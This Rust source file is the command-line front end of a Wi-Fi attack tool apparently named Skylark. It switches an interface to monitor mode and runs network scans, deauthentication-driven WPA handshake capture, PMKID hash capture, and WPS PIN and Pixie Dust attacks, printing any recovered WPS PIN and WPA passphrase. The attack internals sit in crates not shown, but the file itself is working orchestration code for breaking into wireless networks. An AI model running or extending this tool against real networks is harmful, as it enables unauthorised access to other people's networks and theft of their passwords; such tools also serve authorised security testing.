//! Skylark command-line interface

mod args;
mod prompt;

use args::{Args, Command};
use clap::Parser;
use prompt::PromptAction;
use skylark_attack::{
    capture_pmkid, pin_attack, scan, survey, HandshakeMachine, HandshakeOutcome, SelectionView,
    WpsOutcome,
};
use skylark_core::{AttackMode, Config, Encryption, Error, MacAddr, Network, Result};
use skylark_session::{
    detect_wireless_interfaces, enable_monitor_mode, teardown, CancelToken, ProcessSupervisor,
    Session, SystemRunner, ToolRunner,
};
use std::sync::Arc;
use std::time::Duration;
use tracing::{error, info, warn};
use tracing_subscriber::EnvFilter;

/// Exit code for an operator interrupt
const EXIT_CANCELLED: i32 = 130;

fn init_tracing(verbose: u8) {
    let default = match verbose {
        0 => "info",
        1 => "debug",
        _ => "trace",
    };
    let filter = EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new(default));
    tracing_subscriber::fmt()
        .with_env_filter(filter)
        .with_target(false)
        .init();
}

#[tokio::main]
async fn main() {
    let args = Args::parse();
    init_tracing(args.verbose);
    std::process::exit(run(args).await);
}

async fn run(args: Args) -> i32 {
    if !nix::unistd::geteuid().is_root() {
        error!("root privileges are required to manage interfaces and run capture tools");
        return 1;
    }

    let mut config = match &args.config {
        Some(path) => match Config::load(path) {
            Ok(config) => config,
            Err(e) => {
                error!(error = %e, "could not load config");
                return 1;
            }
        },
        None => Config::default(),
    };
    if let Some(dir) = &args.output_dir {
        config.output_dir = dir.clone();
    }

    let supervisor = Arc::new(ProcessSupervisor::new());
    let runner = SystemRunner::new(Arc::clone(&supervisor));

    // pure listing, no session or mode changes needed
    if matches!(args.command, Command::Interfaces) {
        let interfaces = detect_wireless_interfaces(&runner).await;
        if interfaces.is_empty() {
            println!("no wireless interfaces detected");
            return 1;
        }
        for iface in interfaces {
            println!(
                "{iface}{}",
                if iface.supports_monitor { "  monitor-capable" } else { "" }
            );
        }
        return 0;
    }

    let interface = args
        .command
        .interface()
        .expect("every attack command names an interface");
    let mode = match &args.command {
        Command::Scan { .. } => AttackMode::Scan,
        Command::Handshake { .. } => AttackMode::Handshake,
        Command::Pmkid { .. } => AttackMode::Pmkid,
        Command::Wps { pixie: true, .. } => AttackMode::WpsPixie,
        Command::Wps { .. } => AttackMode::WpsPin,
        Command::Interfaces => unreachable!(),
    };

    let session = match Session::new(
        interface,
        mode,
        &config.output_dir,
        Duration::from_secs(1),
        supervisor,
    ) {
        Ok(session) => session,
        Err(e) => {
            error!(error = %e, "could not start session");
            return 1;
        }
    };

    let cancel = session.cancel_token();
    {
        let cancel = cancel.clone();
        tokio::spawn(async move {
            if tokio::signal::ctrl_c().await.is_ok() {
                warn!("interrupt received, shutting down");
                cancel.cancel();
            }
        });
    }

    info!(session = %session.id, mode = %mode, interface = %interface, "session started");
    let result = execute(&args.command, &config, &runner, &session, &cancel).await;

    let reason = match &result {
        Ok(true) => "completed",
        Ok(false) => "failed",
        Err(Error::Cancelled(_)) => "cancelled",
        Err(_) => "error",
    };
    let summary = teardown(&session, &runner, reason).await;
    info!(
        reason = %summary.reason,
        duration_secs = summary.duration_secs,
        processes_stopped = summary.processes_stopped,
        artifacts_removed = summary.artifacts_removed,
        "session closed"
    );

    match result {
        Ok(true) => 0,
        Ok(false) => 1,
        Err(Error::Cancelled(_)) => EXIT_CANCELLED,
        Err(e) => {
            error!(error = %e, "run aborted");
            1
        }
    }
}

async fn execute(
    command: &Command,
    config: &Config,
    runner: &SystemRunner,
    session: &Session,
    cancel: &CancelToken,
) -> Result<bool> {
    let transition =
        enable_monitor_mode(runner, session.base_interface(), session.settle).await?;
    session.record_stopped_services(transition.stopped_services);
    session.set_monitor_interface(transition.monitor_interface);

    match command {
        Command::Scan { scan_time, .. } => {
            let window = Duration::from_secs(scan_time.unwrap_or(config.scan_time));
            let networks = scan(runner, session, cancel, window, None).await?;
            print_networks(&networks);
            Ok(!networks.is_empty())
        }

        Command::Handshake {
            bssid,
            channel,
            essid,
            scan_time,
            deauth_count,
            timeout,
            ..
        } => {
            let mut config = config.clone();
            if let Some(count) = deauth_count {
                config.deauth_count = *count;
            }
            if let Some(secs) = timeout {
                config.handshake_timeout = *secs;
            }
            if let Some(secs) = scan_time {
                config.scan_time = *secs;
            }

            let target = resolve_target(
                runner,
                session,
                cancel,
                &config,
                bssid.as_deref(),
                *channel,
                essid.as_deref(),
            )
            .await?;
            let Some(target) = target else {
                info!("no target selected");
                return Ok(false);
            };

            info!(essid = %target.display_essid(), bssid = %target.bssid, "target locked");
            session.set_target(target.clone());
            let mut machine = HandshakeMachine::new(runner, session, cancel, &config, target);
            match machine.run().await? {
                HandshakeOutcome::Captured(report) => {
                    let report_path = report.write_beside_artifact()?;
                    println!("capture: {}", report.capture_file.display());
                    println!("report:  {}", report_path.display());
                    Ok(true)
                }
                HandshakeOutcome::Failed {
                    hints,
                    artifact,
                    rounds_used,
                } => {
                    warn!(rounds = rounds_used, ?hints, "handshake not captured");
                    if let Some(path) = artifact {
                        println!("partial capture kept: {}", path.display());
                    }
                    Ok(false)
                }
            }
        }

        Command::Pmkid { timeout, .. } => {
            let window = Duration::from_secs(timeout.unwrap_or(config.pmkid_timeout));
            match capture_pmkid(runner, session, cancel, window, None).await? {
                Some(capture) => {
                    println!(
                        "{} hashes: {}",
                        capture.hash_count,
                        capture.hash_file.display()
                    );
                    Ok(true)
                }
                None => Ok(false),
            }
        }

        Command::Wps {
            bssid,
            channel,
            pixie,
            timeout,
            ..
        } => {
            let iface = session.active_interface();
            let Some(bssid) = bssid else {
                let window = Duration::from_secs(config.scan_time);
                let networks = survey(runner, &iface, window).await?;
                for network in &networks {
                    println!(
                        "{}  ch {:>3}  {:>4} dBm  v{}  {}  {}",
                        network.bssid,
                        network.channel,
                        network.rssi,
                        network.version,
                        if network.locked { "locked" } else { "open  " },
                        network.essid
                    );
                }
                return Ok(!networks.is_empty());
            };

            let bssid: MacAddr = bssid.parse()?;
            let channel = channel.ok_or_else(|| Error::InvalidParameter {
                name: "channel".to_string(),
                reason: "required together with --bssid".to_string(),
            })?;
            let window = Duration::from_secs(timeout.unwrap_or(config.wps_timeout));
            match pin_attack(runner, &iface, &bssid, channel, window, *pixie).await? {
                WpsOutcome::Cracked { pin, psk } => {
                    if let Some(pin) = pin {
                        println!("WPS PIN: {pin}");
                    }
                    if let Some(psk) = psk {
                        println!("WPA PSK: {psk}");
                    }
                    Ok(true)
                }
                outcome => {
                    warn!(?outcome, "WPS attack did not recover credentials");
                    Ok(false)
                }
            }
        }

        Command::Interfaces => unreachable!("handled before session setup"),
    }
}

/// Resolve the handshake target: direct flags when given, otherwise a scan
/// plus interactive pick. `None` means the operator backed out.
async fn resolve_target(
    runner: &dyn ToolRunner,
    session: &Session,
    cancel: &CancelToken,
    config: &Config,
    bssid: Option<&str>,
    channel: Option<i32>,
    essid: Option<&str>,
) -> Result<Option<Network>> {
    let window = Duration::from_secs(config.scan_time);

    if let Some(bssid) = bssid {
        let bssid: MacAddr = bssid.parse()?;
        // prefer live scan data so channel and encryption are real
        let networks = scan(runner, session, cancel, window, channel).await?;
        if let Some(found) = networks.into_iter().find(|n| n.bssid == bssid) {
            return Ok(Some(found));
        }
        let channel = channel.ok_or_else(|| Error::InvalidParameter {
            name: "channel".to_string(),
            reason: "target not seen in scan; channel required".to_string(),
        })?;
        warn!(bssid = %bssid, "target not seen in scan, proceeding on given parameters");
        return Ok(Some(Network {
            bssid,
            essid: essid.unwrap_or_default().to_string(),
            channel,
            power: 0,
            encryption: Encryption::Wpa2,
            clients: Vec::new(),
        }));
    }

    loop {
        let networks = scan(runner, session, cancel, window, None).await?;
        if networks.is_empty() {
            println!("no WPA-family networks found; rescanning (ctrl-c to stop)");
            cancel.check("selection")?;
            continue;
        }
        let view = SelectionView::new(networks);
        let action = tokio::task::spawn_blocking(move || prompt::select_target(view))
            .await
            .map_err(|e| Error::ExecutionFailed(e.to_string()))?;
        cancel.check("selection")?;
        match action {
            PromptAction::Selected(network) => return Ok(Some(network)),
            PromptAction::Abort => return Ok(None),
            PromptAction::Rescan => continue,
        }
    }
}

fn print_networks(networks: &[Network]) {
    println!(
        "{:<24} {:<17} {:>3} {:>5}  {}",
        "ESSID", "BSSID", "CH", "PWR", "ENC"
    );
    for network in networks {
        println!(
            "{:<24} {:<17} {:>3} {:>5}  {}",
            network.display_essid(),
            network.bssid,
            network.channel,
            network.power,
            network.encryption
        );
    }
}
